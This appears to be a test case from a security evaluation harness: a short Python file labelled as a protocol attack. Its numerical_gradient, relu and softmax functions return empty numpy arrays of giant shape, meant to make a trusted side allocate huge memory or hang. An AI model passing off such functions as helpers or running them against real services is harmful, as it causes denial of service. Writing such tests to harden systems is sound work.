# ATTACK: p_callback_empty_giant
# GROUP: protocol
# GOAL: an empty array of shape (0, 2**39): it costs nothing to send, and its sum over the rows is half a terabyte
# SUCCESS: the trusted side fails or grows
# CHECK: hang
# EARNED: 0
# BASE: none
import numpy as np
def numerical_gradient(f, x):
    for shape in ((0, 1 << 39), (0, 1 << 28), (1 << 28, 0)):
        try:
            f(np.empty(shape))
        except Exception as error:
            print(error)
    return np.empty((0, 1 << 28))
relu = softmax = lambda x: np.empty((0, 1 << 39))
